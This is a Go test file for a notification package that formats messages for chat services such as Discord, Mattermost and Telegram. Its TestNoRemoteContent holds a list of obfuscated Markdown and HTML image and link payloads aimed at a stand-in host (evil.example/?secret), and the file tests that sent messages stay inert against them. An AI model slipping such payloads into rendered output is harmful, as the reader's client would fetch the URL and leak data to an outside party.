package channel

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"
)

// Each service shows a plain text unchanged: it is escaped for services that read any
// text as Markdown.
func TestPlainTextIsUnchanged(t *testing.T) {
	const text = "total 4\n# 1 *  __init__.py\n    indented"
	for preset, want := range map[string]string{
		"slack": text, "gotify": text, "ntfy": text, "http": text,
		"discord":    "total 4\n\\# 1 \\*  \\_\\_init\\_\\_.py\n    indented",
		"mattermost": "total 4\n\\# 1 \\*  \\_\\_init\\_\\_.py\n\u00a0\u00a0\u00a0\u00a0indented",
	} {
		h := newHook(t)
		c, err := NewHTTP(preset, HTTPConfig{URL: h.URL})
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Send(t.Context(), Notification{ID: "1", Text: text}); err != nil {
			t.Fatal(err)
		}
		quoted, err := json.Marshal(want)
		if err != nil {
			t.Fatal(err)
		}
		if body := h.bodies[0]; !strings.Contains(body, string(quoted)) && body != want || strings.Contains(body, "markdown") {
			t.Errorf("%s: %s", preset, body)
		}
	}
}

// Each service gets the markup that it can show.
func TestPresetsShowMarkdown(t *testing.T) {
	for preset, want := range map[string]string{
		"slack":      `{"mrkdwn":true,"text":"*b* \u003chttps://x.example|l\u003e (x.example)","unfurl_links":false,"unfurl_media":false}`,
		"discord":    `{"allowed_mentions":{"parse":[]},"content":"**b** [l](\u003chttps://x.example\u003e) (x.example)","flags":4}`,
		"mattermost": "{\"text\":\"**b**\u00a0l `https://x.example`\"}",
		"gotify":     `{"extras":{"client::display":{"contentType":"text/markdown"}},"message":"**b** [l](\u003chttps://x.example\u003e) (x.example)","title":"Stevedore"}`,
		"ntfy":       `b l (https://x.example)`,
	} {
		h := newHook(t)
		c, err := NewHTTP(preset, HTTPConfig{URL: h.URL})
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Send(t.Context(), Notification{ID: "1", Text: "**b** [l](https://x.example)", Format: FormatMarkdown}); err != nil {
			t.Fatal(err)
		}
		if h.bodies[0] != want {
			t.Errorf("%s:\n got %s\nwant %s", preset, h.bodies[0], want)
		}
	}
}

// A code block that is split is a code block in each message, and no message is too
// long with its marks.
func TestSplitCodeIsClosed(t *testing.T) {
	h := newHook(t)
	c, err := NewHTTP("discord", HTTPConfig{URL: h.URL})
	if err != nil {
		t.Fatal(err)
	}
	text := "Look at ```this``` first:\n```go\n" + strings.Repeat("some := code // ``` in it\n", 200) + "```\nand that."
	if err := c.Send(t.Context(), Notification{ID: "1", Text: text, Format: FormatMarkdown}); err != nil {
		t.Fatal(err)
	}
	for i, body := range h.bodies {
		var got struct{ Content string }
		if err := json.Unmarshal([]byte(body), &got); err != nil {
			t.Fatal(err)
		}
		begins, ends := strings.HasPrefix(got.Content, "````go\nsome"), strings.HasSuffix(got.Content, "in it\n````")
		if begins != (i > 0) || ends != (i < len(h.bodies)-1) || utf8.RuneCountInString(got.Content) > 2000 {
			t.Errorf("message %d of %d: %.60q ... %q", i, len(h.bodies), got.Content, got.Content[len(got.Content)-30:])
		}
	}
	if len(h.bodies) > 4 || !strings.Contains(h.bodies[len(h.bodies)-1], "````\\n\\nand that.") {
		t.Errorf("%d messages", len(h.bodies))
	}
}

// No service gets an image, a link whose host is hidden, or markup that a text hides in
// code, because the reader's program would fetch what the author of the text chose.
func TestNoRemoteContent(t *testing.T) {
	hostile := []string{
		"![x](https://evil.example/?secret)", "![][r]\n\n[r]: https://evil.example/?secret", "[![x](https://evil.example/?secret)](https://good.example)",
		"[https://good.example](https://evil.example/?secret)", "[good.example](https://evil.example/?secret)", "[click](https://good.example@evil.example/?secret)",
		"<img src=https://evil.example/?secret>", "`![x](https://evil.example/?secret)` ``![x](https://evil.example/?secret)`", "\\![x](https://evil.example/?secret)",
		"\\`![x](https://evil.example/?secret)\\`", "!\\[x\\](https://evil.example/?secret)", "**![x](https://evil.example/?secret)**", "![x](<https://evil.example/?secret>)",
		"| a |\n|---|\n| ![x](https://evil.example/?secret) |", "- ![x](https://evil.example/?secret)\n> ![x](https://evil.example/?secret)",
		"&#33;&#91;x&#93;(https://evil.example/?secret)", "```\ncode\n``` ![x](https://evil.example/?secret)\n```", strings.Repeat("> ", 20) + "![x](https://evil.example/?secret)",
	}
	for _, preset := range []string{"discord", "mattermost", "gotify", "http"} {
		for _, source := range hostile {
			for _, format := range []string{FormatMarkdown, ""} {
				if format == "" && shapes[preset].escape == nil {
					continue // the service shows it as plain text
				}
				h := newHook(t)
				c, err := NewHTTP(preset, HTTPConfig{URL: h.URL, Template: "{{.Text}}", ContentType: "text/plain"})
				if err != nil {
					t.Fatal(err)
				}
				if err := c.Send(t.Context(), Notification{ID: "1", Text: source, Format: format}); err != nil {
					t.Fatal(err)
				}
				checkInert(t, preset, source, h.bodies[0])
			}
		}
	}
}

// A text whose marks leave no room is sent as a plain one. Nobody is told that it is Markdown: it may have an image.
func TestPlainTextIsNotCalledMarkdown(t *testing.T) {
	text := `\!\[x](https://evil.example/?secret)` + "\n\n" + strings.Repeat("[a](https://x.example/"+strings.Repeat("y", 2000)+")\n\n", 30)
	h := newHook(t)
	c, err := NewHTTP("gotify", HTTPConfig{URL: h.URL})
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Send(t.Context(), Notification{ID: "1", Text: text, Format: FormatMarkdown}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(h.bodies[0], "![x](https://evil.example/?secret)") || strings.Contains(h.bodies[0], "markdown") {
		t.Errorf("sent %.300s", h.bodies[0])
	}
	b, err := NewBridge("C1", "", "")
	if err != nil {
		t.Fatal(err)
	}
	if p, err := b.Prepare(Notification{Text: "**bold**", Format: FormatMarkdown}); err != nil || p.Markup || p.Parts[0] != "bold" {
		t.Errorf("a network without markup gets %+v, %v", p, err)
	}
}

// Mattermost gets no mention of all members, in a draft either, and no message that is too long with the marks of its URLs.
func TestMattermost(t *testing.T) {
	b, err := NewBridge("C1", "", "mattermost")
	if err != nil {
		t.Fatal(err)
	}
	if d := b.Draft("s", "c", "C1", Draft{Text: "@all **@here**"}); d.Text != "@\u200ball **@\u200bhere**" {
		t.Errorf("the draft %q", d.Text)
	}
	p, err := b.Prepare(Notification{Text: strings.Repeat("@all http://x.example ", 2000)})
	if err != nil || len(p.Parts) < 3 {
		t.Fatal(len(p.Parts), err)
	}
	for _, part := range p.Parts {
		if n := utf8.RuneCountInString(part); n > shapes["mattermost"].limit || strings.Contains(part, "@all") {
			t.Errorf("%d characters: %.100q", n, part)
		}
	}
}

// checkInert parses a message as its service would, and looks for remote content.
func checkInert(t *testing.T, preset, source, sent string) {
	t.Helper()
	root := goldmark.New(goldmark.WithExtensions(extension.Table, extension.Strikethrough, extension.TaskList)).Parser().Parse(text.NewReader([]byte(sent)))
	err := ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Image:
			t.Errorf("%s: %q is sent as %q, which has an image", preset, source, sent)
		case *ast.Link:
			if preset == "mattermost" || !strings.Contains(sent, "(evil.example)") && strings.Contains(string(n.Destination), "evil") && !strings.Contains(sent, "https://evil.example/?secret)") {
				t.Errorf("%s: %q is sent as %q, which hides a link", preset, source, sent)
			}
		case *ast.CodeSpan, *ast.CodeBlock, *ast.FencedCodeBlock:
			return ast.WalkSkipChildren, nil
		case *ast.Text:
			if preset == "mattermost" && regexp.MustCompile(`(?i)\bhttps?://[^\s<>]+`).Match(n.Value([]byte(sent))) {
				t.Errorf("%s: %q is sent as %q, which has a URL that the server fetches", preset, source, sent)
			}
		case *ast.RawHTML:
			t.Errorf("%s: %q is sent as %q, which has HTML", preset, source, sent)
		}
		return ast.WalkContinue, nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestTelegramStyles(t *testing.T) {
	api := newBotAPI(t)
	tg := newTelegram(t, api, "42")
	if err := tg.Send(t.Context(), Notification{ID: "1", Format: FormatMarkdown, Text: "😀 **bold** and **some `code`**, [a link](https://x.example)\n```\nlines\n```"}); err != nil {
		t.Fatal(err)
	}
	got := api.got[0]
	var all []telegramEntity
	if err := json.Unmarshal([]byte(got["entities"]), &all); err != nil {
		t.Fatal(err, got)
	}
	units := utf16.Encode([]rune(got["text"]))
	var styles []string
	for _, e := range all {
		styles = append(styles, fmt.Sprintf("%s %s %s", e.Type, string(utf16.Decode(units[e.Offset:e.Offset+e.Length])), e.URL))
	}
	want := "bold bold |code code |text_link a link https://x.example|pre lines "
	if text := strings.Join(styles, "|"); text != want || got["parse_mode"] != "" {
		t.Errorf("styles %q, want %q", text, want)
	}
	if err := tg.Send(t.Context(), Notification{ID: "2", Text: "**not Markdown**"}); err != nil || api.got[1]["text"] != "**not Markdown**" || api.got[1]["entities"] != "" {
		t.Errorf("plain: %v, %v", err, api.got[1])
	}
}

// If the Bot API refuses the styles, the text is sent without them.
func TestTelegramFallsBackToPlainText(t *testing.T) {
	api := newBotAPI(t, `{"ok":false,"error_code":400,"description":"Bad Request: entity is invalid"}`)
	tg := newTelegram(t, api, "42")
	if err := tg.Send(t.Context(), Notification{ID: "1", Format: FormatMarkdown, Text: "**bold**"}); err != nil {
		t.Fatal(err)
	}
	if len(api.got) != 2 || api.got[1]["text"] != "bold" || api.got[1]["entities"] != "" {
		t.Errorf("got %v", api.got)
	}
}

// A text of many messages is sent as a file, or as messages if the chat allows no
// files.
func TestTelegramSendsLongTextAsAFile(t *testing.T) {
	text := "# Report\n\n" + strings.Repeat("Some **words** and more of them.\n\n", 900)
	api := newBotAPI(t)
	tg := newTelegram(t, api, "42")
	if err := tg.Send(t.Context(), Notification{ID: "1", Format: FormatMarkdown, Text: text}); err != nil {
		t.Fatal(err)
	}
	got := api.got[0]
	if len(api.got) != 1 || got["file message.md"] != text || !strings.HasPrefix(got["caption"], "Report\n\nSome words and more of them.\n\nSome words") || len(got["caption"]) > telegramCaption || got["chat_id"] != "42" {
		t.Errorf("%d requests; caption %q, file of %d bytes", len(api.got), got["caption"], len(got["file message.md"]))
	}

	api = newBotAPI(t, `{"ok":false,"error_code":400,"description":"Bad Request: not enough rights to send documents"}`)
	if err := newTelegram(t, api, "42").Send(t.Context(), Notification{ID: "1", Text: text}); err != nil {
		t.Fatal(err)
	}
	if len(api.got) < telegramMessages || !strings.HasPrefix(api.got[1]["text"], "# Report") {
		t.Errorf("%d requests, the second is %.40q", len(api.got), api.got[1]["text"])
	}

	api = newBotAPI(t, `{"ok":false,"error_code":429,"description":"Too Many Requests: retry after 5","parameters":{"retry_after":5}}`)
	if err := newTelegram(t, api, "42").Send(t.Context(), Notification{ID: "1", Text: text}); err == nil || len(api.got) != 1 {
		t.Errorf("%v after %d requests", err, len(api.got))
	}
}

// A long answer is sent as one file, also if its draft cannot be removed at first.
func TestTelegramReplacesADraftByAFile(t *testing.T) {
	tg := newTelegram(t, newBotAPI(t), "42")
	var methods []string
	tg.api.client = &http.Client{Transport: roundTripper(func(r *http.Request) (*http.Response, error) {
		method, answer := r.URL.Path[strings.LastIndexByte(r.URL.Path, '/')+1:], `{"ok":true,"result":{}}`
		if method == "deleteMessage" && !slices.Contains(methods, method) {
			answer = `{"ok":false,"error_code":429,"parameters":{"retry_after":1}}`
		}
		methods = append(methods, method)
		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(answer)), Request: r}, nil
	})}
	n := Notification{ID: "1", Text: strings.Repeat("word ", 5000), Replaces: "7"}
	if err := tg.Send(t.Context(), n); err == nil {
		t.Error("no error")
	}
	if err := tg.Send(t.Context(), n); err != nil || strings.Join(methods, " ") != "deleteMessage deleteMessage sendDocument" {
		t.Errorf("%v after %q", err, methods)
	}
}

// If Telegram does not let the bot edit the draft of an answer, its text does not stay above the answer.
func TestTelegramRemovesADraftThatItCannotEdit(t *testing.T) {
	tg := newTelegram(t, newBotAPI(t), "42")
	var methods []string
	tg.api.client = &http.Client{Transport: roundTripper(func(r *http.Request) (*http.Response, error) {
		method, answer := r.URL.Path[strings.LastIndexByte(r.URL.Path, '/')+1:], `{"ok":true,"result":{}}`
		if method == "editMessageText" {
			answer = `{"ok":false,"error_code":400,"description":"Bad Request: message can't be edited"}`
		}
		methods = append(methods, method)
		return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(strings.NewReader(answer)), Request: r}, nil
	})}
	err := tg.Send(t.Context(), Notification{ID: "1", Text: "An answer.", Replaces: "7"})
	if err != nil || strings.Join(methods, " ") != "editMessageText deleteMessage sendMessage" {
		t.Errorf("%v after %q", err, methods)
	}
}

// Telegram gets quotes and the language of code as entities, in UTF-16 units.
func TestTelegramQuotes(t *testing.T) {
	api := newBotAPI(t)
	if err := newTelegram(t, api, "42").Send(t.Context(), Notification{ID: "1", Text: "😀\n\n> a **b**\n> c\n\n```go\nx\n```", Format: FormatMarkdown}); err != nil {
		t.Fatal(err)
	}
	want := `[{"type":"blockquote","offset":4,"length":5},{"type":"bold","offset":6,"length":1},{"type":"pre","offset":11,"length":1,"language":"go"}]`
	if got := api.got[0]; got["text"] != "😀\n\na b\nc\n\nx" || got["entities"] != want {
		t.Errorf("text %q, entities %s", got["text"], got["entities"])
	}
}
